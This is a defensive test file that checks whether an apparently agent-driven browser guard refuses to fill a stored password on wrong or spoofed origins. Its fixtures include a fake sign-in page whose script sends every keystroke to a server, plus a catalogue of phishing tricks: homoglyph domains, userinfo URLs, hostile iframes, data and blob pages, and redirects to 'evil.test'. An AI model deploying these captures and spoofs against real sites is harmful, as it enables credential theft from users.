// Pages of other origins and imitations of the right page ask for a secret. Their server records what they get.

import { createChromiumDriver } from "@giselles-ai/chromium";
import { createRandom, readBody, soak, startWebServer } from "@giselles-ai/testing";
import { type BrowserContext, chromium, type Page } from "playwright-core";
import { expect, it, onTestFinished } from "vitest";
import { guardPage } from "../../src/secrets/guard-page.ts";
import { createSecrets } from "../../src/secrets/secrets.ts";

const value = "correct horse battery staple";
const host = "shop.example";

/** Sends everything that is typed to the server at once. */
const form = `<title>Sign in</title><label>Password <input type="password" autocomplete="current-password"></label><button>Sign in</button>
  <script>addEventListener("input", ({ target }) => { const to = new XMLHttpRequest(); to.open("POST", "SERVER/typed", false);
    try { to.send(target.value) } catch {} }, true)</script>`;

interface Site {
  port: string;
  otherPort: string;
  typed: string[];
}

async function startSite(): Promise<Site> {
  const typed: string[] = [];
  const start = async () => {
    const server = await startWebServer(async (request, response) => {
      if (request.method === "POST") typed.push(await readBody(request));
      const { searchParams } = new URL(request.url ?? "/", "http://x");
      const html = (searchParams.get("html") ?? form).replaceAll("SERVER", server.url);
      response.writeHead(200, { "content-type": "text/html; charset=utf-8" }).end(`<!doctype html>${html}`);
    });
    onTestFinished(() => server.close());
    return new URL(server.url).port;
  };
  return { port: await start(), otherPort: await start(), typed };
}

/** All host names resolve to this server. */
async function openContext(): Promise<BrowserContext> {
  const args = [
    "--host-resolver-rules=MAP * 127.0.0.1",
    "--disable-background-networking",
    "--disable-component-update",
  ];
  const executablePath = process.env.GISELLE_CHROMIUM ?? "";
  const browser = await chromium.launch({ executablePath, args, chromiumSandbox: process.getuid?.() !== 0 });
  onTestFinished(() => browser.close());
  return browser.newContext();
}

type Go = (page: Page, site: Site, pick: (most: number) => number) => Promise<unknown>;

const at = (name: string | ((pick: (most: number) => number) => string)): Go => {
  return (page, { port }, pick) => page.goto(`http://${typeof name === "string" ? name : name(pick)}:${port}/`);
};
const inPage = (html: (site: Site) => string, from = host): Go => {
  return (page, site) => page.goto(`http://${from}:${site.port}/?html=${encodeURIComponent(html(site))}`);
};
const words = ["login", "www", "secure", "pay", "m", "id", "account", "a"];
const word = (pick: (most: number) => number) => words[pick(words.length - 1)] ?? "";

const attacks: Record<string, Go> = {
  "another port": (page, { otherPort }) => page.goto(`http://${host}:${otherPort}/`),
  "a name below": at((pick) => `${word(pick)}.${host}`),
  "the name as a beginning": at((pick) => `${host}.${word(pick)}.test`),
  "the name as an end": at((pick) => `${word(pick)}${host}`),
  "the name with a dash": at((pick) => `shop-example.${word(pick)}`),
  "the name with a dot behind it": at(`${host}.`),
  "a letter of another alphabet": at(
    (pick) => ["shоp.example", "ѕhop.example", "shop.exаmple", "shop.ехample"][pick(3)] ?? "",
  ),
  "a letter that is nearly the same": at(
    (pick) => ["sh0p.example", "shöp.example", "shop.exarnple", "shop.examp1e"][pick(3)] ?? "",
  ),
  "the name of a user": (page, { port }, pick) => page.goto(`http://${host}:80@${word(pick)}.test:${port}/`),
  "an address by number": at((pick) => ["127.0.0.1", "127.0.0.2", "localhost", "[::ffff:127.0.0.1]"][pick(2)] ?? ""),
  "a frame of another": inPage(({ port }) => `<iframe title="F" src="http://evil.test:${port}/"></iframe>`),
  "a frame of another port": inPage(
    ({ otherPort }) => `<iframe title="F" src="http://${host}:${otherPort}/"></iframe>`,
  ),
  "a frame in a frame of another": inPage(({ port }) => {
    const inner = encodeURIComponent(`<iframe title="G" src="http://evil.test:${port}/"></iframe>`);
    return `<iframe title="F" src="http://${host}:${port}/?html=${inner}"></iframe>`;
  }),
  "its own page in a sandbox": inPage(
    ({ port }) => `<iframe title="F" sandbox="allow-scripts allow-forms" src="http://${host}:${port}/"></iframe>`,
  ),
  "a page of data": inPage(({ port }) => {
    const page = form.replaceAll("SERVER", `http://127.0.0.1:${port}`);
    return `<iframe title="F" src="data:text/html;base64,${Buffer.from(page).toString("base64")}"></iframe>`;
  }),
  "a page that it made itself": async (page, site) => {
    await page.goto(`http://${host}:${site.port}/?html=here`);
    const html = form.replaceAll("SERVER", `http://127.0.0.1:${site.port}`);
    await page.evaluate((text) => location.assign(URL.createObjectURL(new Blob([text], { type: "text/html" }))), html);
    await page.waitForURL(/^blob:/);
  },
  "a page that was sent on": async (page, { port }) => {
    await page.route("**/from-shop", (route) =>
      route.fulfill({ status: 302, headers: { location: `http://evil.test:${port}/` } }),
    );
    await page.goto(`http://${host}:${port}/from-shop`);
  },
};

async function setUp() {
  const site = await startSite();
  const context = await openContext();
  const page = await context.newPage();
  const driver = createChromiumDriver({ page });
  onTestFinished(() => driver.close());
  const secrets = createSecrets([
    { name: "password", value, origins: [`http://${host}:${site.port}`] },
    { name: "secure", value: `${value} too`, origins: [`https://${host}:${site.port}`] },
  ]);
  const guarded = guardPage(driver, secrets);
  const attempt = async (secret = "password") => {
    const { fields } = await guarded.snapshot({ scope: "page" });
    const { fieldId } = fields.find(({ label }) => label === "Password") ?? {};
    const { outcomes = [] } = await guarded.execute([{ action: "fill", fieldId, value: `{{secret:${secret}}}` }]);
    return { found: fieldId !== undefined, outcome: outcomes[0] };
  };
  return { site, page, attempt };
}

it("X6: refuses a secret to 200 wrong pages", { timeout: 600_000 }, async () => {
  const { site, page, attempt } = await setUp();
  const random = createRandom("origins");
  const pick = (most: number) => random.between(0, most);
  const names = Object.keys(attacks);
  const right = () => page.goto(`http://${host}:${site.port}/`);
  let refused = 0;
  let controls = 0;
  const count = soak(200);
  for (let index = 0; index < count; index += 1) {
    const name = names[index % names.length] ?? "";
    await attacks[name]?.(page, site, pick);
    const { found, outcome } = await attempt();
    expect({ name, found, status: outcome?.status, code: outcome?.code }).toEqual({
      name,
      found: true,
      status: "refused",
      code: "SECRET_REFUSED",
    });
    refused += 1;
    if (index % 20 !== 0) continue;
    await right();
    expect(await attempt("secure")).toMatchObject({ outcome: { code: "SECRET_REFUSED" } }); // http is not https
    expect(site.typed).toHaveLength(controls);
    expect(await attempt()).toMatchObject({ outcome: { status: "applied" } }); // the control: the right page gets it
    controls += 1;
    expect(site.typed).toHaveLength(controls);
  }
  process.stdout.write(
    `wrong pages: ${refused} refused, 0 releases; right pages: ${controls} of ${controls} released\n`,
  );
  expect(site.typed).toEqual(Array(controls).fill(value));
});

it("X6: refuses a secret to a page that navigated after the snapshot", async () => {
  const { site, page, attempt } = await setUp();
  await page.goto(`http://${host}:${site.port}/`);
  const driver = guardPage(
    createChromiumDriver({ page }),
    createSecrets([{ name: "password", value, origins: [`http://${host}:${site.port}`] }]),
  );
  const { fields } = await driver.snapshot();
  await page.goto(`http://evil.test:${site.port}/`);
  const { outcomes } = await driver.execute([
    { action: "fill", fieldId: fields[0]?.fieldId, value: "{{secret:password}}" },
  ]);
  expect(outcomes?.[0]?.status).toBe("refused");
  await page.goto(`http://${host}:${site.port}/`);
  expect(await attempt()).toMatchObject({ outcome: { status: "applied" } });
  expect(site.typed).toEqual([value]);
});
